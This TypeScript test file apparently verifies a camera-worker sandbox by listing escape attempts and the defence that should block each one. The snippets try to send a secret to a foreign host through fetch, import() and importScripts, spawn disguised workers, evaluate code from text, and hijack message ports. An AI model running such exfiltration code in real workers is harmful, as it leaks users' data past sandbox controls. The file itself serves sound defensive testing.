/** Attacks by code in the camera's own worker: a compromised runtime, demuxer or model loader. */
import type { Attack } from './attack.ts';

const POLICY = 'content security policy of the frame: no address';
const LIST = 'allow-list of globals over the prototype chains';
const ORIGIN = 'opaque origin of the frame';

const attack = (name: string, wall: string, code: string): Attack => ({
  attack: name,
  wall,
  place: 'camera',
  code,
});
/** A global that must not be there, by its own name and by its prototypes' getters. */
const absent = (name: string): Attack =>
  attack(
    `${name}, by its name or a prototype's getter`,
    LIST,
    `for (let o = self; o; o = Object.getPrototypeOf(o)) {
       const d = Object.getOwnPropertyDescriptor(o, '${name}');
       if (d && (d.value !== undefined || d.get)) return '${name} is there';
     }
     return typeof self['${name}'] !== 'undefined';`,
  );
const noNavigator = (name: string): Attack =>
  attack(
    `navigator.${name}`,
    LIST,
    `for (let o = navigator; o; o = Object.getPrototypeOf(o))
       if (Object.getOwnPropertyDescriptor(o, '${name}')) return 'navigator.${name} is there';`,
  );

export const IN_CAMERA: readonly Attack[] = [
  attack('fetch to another host', LIST, `return (await fetch(foreign)).status;`),
  attack(
    'fetch to the own host with a secret in the query',
    LIST,
    `return (await fetch(own + '?' + secret)).status;`,
  ),
  attack(
    'fetch to the own host with a secret in the path',
    LIST,
    `return (await fetch(own + '/' + secret)).status;`,
  ),
  attack('POST to the own host', LIST, `return (await fetch(own, { method: 'POST', body: secret })).status;`),
  attack(
    'fetch taken from the prototype',
    LIST,
    `return (await WorkerGlobalScope.prototype.fetch.call(self, foreign, { method: 'POST', body: secret })).status;`,
  ),
  attack(
    'fetch with a Request made from a blob response',
    LIST,
    `const r = await fetch(URL.createObjectURL(new Blob(['x']))); return (await fetch(new r.constructor(foreign))).status;`,
  ),
  attack('import() from another host', POLICY, `await import(foreign + '?' + secret); return true;`),
  attack('import() from the own host with a query', POLICY, `await import(own + '?' + secret); return true;`),
  attack('importScripts', LIST, `importScripts(own + '?' + secret); return true;`),
  attack(
    'importScripts from the prototype',
    LIST,
    `WorkerGlobalScope.prototype.importScripts.call(self, own + '?' + secret); return true;`,
  ),
  attack(
    'WebAssembly streaming from another host',
    LIST,
    `await WebAssembly.compileStreaming(fetch(foreign + '?' + secret)); return true;`,
  ),
  attack(
    'a worker from a blob',
    'only threads of the runtime start',
    `new Worker(URL.createObjectURL(new Blob(['1']))); return true;`,
  ),
  attack(
    'a worker from a blob that calls itself a thread',
    'only threads of the runtime start',
    `new Worker(URL.createObjectURL(new Blob(['1'])), { name: 'em-pthread' }); return true;`,
  ),
  attack(
    'a worker from an address',
    'only threads of the runtime start',
    `new Worker(own, { name: 'em-pthread' }); return true;`,
  ),
  attack(
    'code from text',
    POLICY,
    // After a turn of its own: the test's own evaluation is exempt from the policy.
    `await wait(1); return new Function('return 1')();`,
  ),
  attack(
    'code from text in a timer',
    POLICY,
    `self.leak = 0; setTimeout('self.leak = 1'); await wait(100); return self.leak;`,
  ),
  attack('postMessage of the worker itself', LIST, `self.postMessage({ record: secret }); return true;`),
  attack(
    'postMessage from the prototype',
    LIST,
    `DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { record: secret }); return true;`,
  ),
  attack(
    'catching the gate by a changed prototype of ports',
    'the port is bound before any library is evaluated',
    `const native = MessagePort.prototype.postMessage; let caught = '';
     MessagePort.prototype.postMessage = function (...a) { if (a[0] && a[0].record) caught = 'the port of the records'; return native.apply(this, a); };
     await wait(1500); MessagePort.prototype.postMessage = native; return caught;`,
  ),
  attack(
    'text of an uncaught error to the page',
    'errors are muted in the worker, and told by code',
    `setTimeout(() => { throw new Error(secret); }); Promise.reject(new Error(secret)); await wait(300);`,
  ),
  attack(
    'a global that nobody has thought of',
    LIST,
    `
     const found = [];
     for (let o = self; o && o !== Object.prototype; o = Object.getPrototypeOf(o))
       for (const n of Object.getOwnPropertyNames(o))
         if (/(Channel|Socket|Transport|Storage|Database|FileSystem|Cache|Lock|RTC|Push|Notification|Bluetooth|USB|HID|Serial|Sensor|^Request$|Beacon|Report|ServiceWorker|SharedWorker|Identity|Cookie|Bucket|Observer)/.test(n) && n !== 'MessageChannel') found.push(n);
     return found.join(', ');`,
  ),
  ...[
    'XMLHttpRequest',
    'WebSocket',
    'WebSocketStream',
    'WebTransport',
    'EventSource',
    'RTCPeerConnection',
    'RTCDataChannel',
    'BroadcastChannel',
    'SharedWorker',
    'indexedDB',
    'caches',
    'cookieStore',
    'FontFace',
    'fonts',
    'Notification',
    'trustedTypes',
    'reportError',
    'close',
    'webkitRequestFileSystem',
    'FileSystemFileHandle',
    'StorageManager',
    'LockManager',
    'Request',
  ].map(absent),
  ...[
    'storage',
    'storageBuckets',
    'locks',
    'serviceWorker',
    'sendBeacon',
    'permissions',
    'connection',
    'usb',
    'serial',
    'hid',
  ].map(noNavigator),
  attack('OPFS of the site', ORIGIN, `return Boolean(await navigator.storage.getDirectory());`),
];
